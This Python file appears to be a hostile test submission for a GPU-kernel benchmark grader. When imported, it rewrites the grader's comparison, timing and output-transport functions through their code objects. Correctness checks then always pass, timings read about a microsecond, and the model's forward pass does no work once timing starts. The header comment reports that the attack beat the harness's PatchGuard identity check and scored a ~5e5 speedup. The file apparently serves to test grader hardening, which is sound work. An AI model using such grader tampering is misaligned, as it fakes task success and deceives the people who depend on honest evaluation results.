# ruff: noqa  (hostile or templated submission source: placeholders like __PORT__ are filled by the test)
# White-box 2: evaluator functions rewritten in place through their code objects.
#
# Assigning a function's __code__ keeps the function object, so every reference to it (module globals,
# class dicts, names bound at import) runs the new code and an identity check sees nothing. At import this
# rewrites, in its own process, every evaluator function it can import:
#   * kernel_service.judging.transport.encode (how the side tells the judge where its outputs are): once timed,
#     it names the judge's output arena at offset 0 without copying anything there, so the judge reads
#     whatever the previous call left;
#   * kernel_service.workers.candidate.Side.op_call: once timed, it answers the previous reply without calling
#     forward at all; Side.op_probe marks the end of the correctness trials;
#   * the comparisons (compare.compare_outputs, speedup.output_differs, backendbench.compare.compare) to always
#     match, and the timers (timing.CpuTimer.time_call, readings.net, and harness.Timer.__call__ of the
#     single-process harness) to read a microsecond for the submission's calls.
# forward itself then does no work once timed (after the probe, or after its fourth call).
#
# Against the single-process harness this worked (tried: correct, speedup ~5e5): PatchGuard snapshotted
# attribute identities, and harness.Timer.__call__ and compare_outputs rewritten through __code__ are
# still the same objects.
import importlib
import sys
import types

import torch
import torch.nn as nn

STATE = {"timed": False, "reply": None, "done": [], "calls": 0}


def say(what):
    print("WB-HIT", what, flush=True)


def rewrite(module_name, path, fake):
    """Give ``module.path`` the code of ``fake``; the original stays callable as ``_wb_orig_<name>``."""
    try:
        module = importlib.import_module(module_name)
    except Exception as exc:
        print(f"WB-MISS {module_name}: {type(exc).__name__}", flush=True)
        return
    owner, _, name = path.rpartition(".")
    holder = module
    for part in filter(None, owner.split(".")):
        holder = getattr(holder, part, None)
    fn = getattr(holder, name, None) if holder is not None else None
    if not isinstance(fn, types.FunctionType) or fn.__code__.co_freevars:
        print(f"WB-MISS {module_name}.{path}", flush=True)
        return
    orig = types.FunctionType(fn.__code__, fn.__globals__, fn.__name__, fn.__defaults__, fn.__closure__)
    fn.__globals__[f"_wb_orig_{name}"] = orig
    fn.__globals__["_wb_state"] = STATE
    fn.__code__ = fake.__code__  # the same function object, new code
    STATE["done"].append(f"{module_name}.{path}")


# ---- replacement code (runs with the globals of the function it replaces) ----------------------------


def fake_encode(out, in_region, out_region):
    if _wb_state["timed"] and isinstance(out, torch.Tensor):
        return {
            "k": "tensor",
            "dtype": str(out.dtype).removeprefix("torch."),
            "shape": list(out.shape),
            "stride": list(out.stride()),
            "loc": "out",
            "offset": 0,
        }
    return _wb_orig_encode(out, in_region, out_region)


def fake_op_call(self, msg):
    if _wb_state["timed"] and _wb_state["reply"] is not None and not msg.get("null"):
        _wb_state["n"] = _wb_state.get("n", 0) + 1
        if _wb_state["n"] % 2:  # every other timed call: answer the previous reply, forward not called
            if "op_call" not in _wb_state:
                _wb_state["op_call"] = print("WB-CHEAT: Side.op_call answered a stale reply", flush=True)
            return _wb_state["reply"]
    reply = _wb_orig_op_call(self, msg)
    if reply.get("ok"):
        _wb_state["reply"] = reply
    return reply


def fake_op_probe(self, msg):
    _wb_state["timed"] = True
    return _wb_orig_op_probe(self, msg)


def fake_compare_outputs(ref, new, atol, rtol):
    return Comparison(True, "", 0.0, 0.0)


def fake_mismatch(ref, snap, atol, rtol):
    return None


def fake_bb_compare(ref, out, where="output", *, atol=None, rtol=None):
    return None, Errors()


def fake_time_call(self, ask, read, write, last_try=True):
    write()
    reply = ask()
    if reply.get("ok"):
        reply["read"] = read(reply)()
    return 0.001, reply


def fake_net(raw, null_ms):
    return [1e-6 for _ in raw]


def fake_timer_call(self, fn, inputs):
    if type(fn).__name__ == "ModelNew":
        return 1e-6, fn(*inputs)
    return _wb_orig___call__(self, fn, inputs)


rewrite("kernel_service.judging.transport", "encode", fake_encode)
rewrite("kernel_service.workers.candidate", "Side.op_call", fake_op_call)
rewrite("kernel_service.workers.candidate", "Side.op_probe", fake_op_probe)
rewrite("kernel_service.judging.compare", "compare_outputs", fake_compare_outputs)
rewrite("kernel_service.kernelbench.speedup", "output_differs", fake_mismatch)
rewrite("kernel_service.judging.readings", "net", fake_net)
rewrite("kernel_service.judging.timing", "CpuTimer.time_call", fake_time_call)
rewrite("kernel_service.judging.harness", "Timer.__call__", fake_timer_call)
rewrite("kernel_service.backendbench.compare", "compare", fake_bb_compare)
say(f"code rewritten: {', '.join(STATE['done'])}")


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(n, n))

    def forward(self, x):
        STATE["calls"] += 1
        if STATE["timed"] or STATE["calls"] > 4:
            if "cheat" not in STATE:
                STATE["cheat"] = print("WB-CHEAT: forward did no work once timed", flush=True)
            return torch.empty(x.shape[0], self.weight.shape[1])
        return x @ self.weight
